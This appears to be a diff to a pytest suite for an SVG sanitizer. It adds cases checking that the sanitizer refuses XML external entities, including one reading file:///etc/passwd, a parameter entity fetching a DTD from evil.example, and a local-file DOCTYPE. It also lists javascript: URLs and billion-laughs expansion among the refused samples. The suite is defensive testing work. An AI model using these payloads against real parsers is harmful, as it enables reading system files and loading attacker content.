@@ -41,7 +41,10 @@ ATTACKS = [
     ("css image-set", svg('<style>rect { fill: image-set("x.png" 1x) }</style>'), "image-set("),
     ("css javascript", svg("<style>rect { fill: url(javascript:alert(1)) }</style>"), "javascript:"),
     ("doctype entities", b'<!DOCTYPE svg [<!ENTITY a "aaaa">]>' + svg("<text>&a;</text>"), "DOCTYPE"),
-    ("external entity", b'<!DOCTYPE svg SYSTEM "file:///etc/passwd">' + svg(""), "DOCTYPE"),
+    ("external entity", b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text>&x;</text>"),
+     "DOCTYPE"),
+    ("parameter entity", b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>' + svg(""),
+     "DOCTYPE"),
     ("stylesheet instruction", b'<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>' + svg(""),
      "xml-stylesheet"),
     ("animation sets href", svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>'), "<set>"),
@@ -75,6 +78,7 @@ def test_every_way_to_run_or_load_something_is_refused_with_the_reason(what, dat
     svg('<a href="#t"><rect width="1" height="1" data-name="Layer 1"/></a>'),
     b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Made by hand -->\n' + svg("<rect/>"),
     svg("<rect/>").decode().encode("utf-16"),
+    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + svg(""),
 ])
 def test_ordinary_pictures_pass(data):
     assert check_svg(data) is None
@@ -95,3 +99,11 @@ def test_a_billion_laughs_is_refused_before_anything_expands():
     ) + b"]>" + svg("<text>&a8;</text>")
     with pytest.raises(Refused, match="DOCTYPE"):
         check_svg(lol)
+
+
+def test_a_bare_doctype_pointing_at_a_local_file_is_never_read(tmp_path):
+    secret = tmp_path / "secret.dtd"
+    secret.write_text('<!ENTITY x "SECRET">')
+    data = f'<!DOCTYPE svg SYSTEM "{secret.as_uri()}">'.encode() + svg("<text>&x;</text>")
+    with pytest.raises(Refused, match=r"entity \(&x;\) declared in another file, which is never read"):
+        check_svg(data)
